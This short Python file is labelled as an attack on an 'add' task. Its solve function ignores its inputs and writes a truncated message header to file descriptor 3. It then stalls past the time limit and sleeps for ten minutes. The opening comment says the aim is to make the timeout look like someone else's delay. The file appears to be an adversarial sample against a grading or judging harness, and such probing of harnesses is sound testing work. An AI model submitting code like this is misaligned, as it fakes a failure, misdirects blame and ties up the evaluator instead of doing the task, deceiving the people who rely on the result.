# Attack: half a message comes just before the time is up, so that it seems to be somebody else's delay.
# task: add
import os
import struct
import time


def solve(a, b):
    end = time.monotonic() + 1.9
    while time.monotonic() < end + 0.3:
        os.write(3, b"\0\0\1\0" if time.monotonic() < end - 1.89 else b"")
        time.sleep(0.001)
    time.sleep(600)
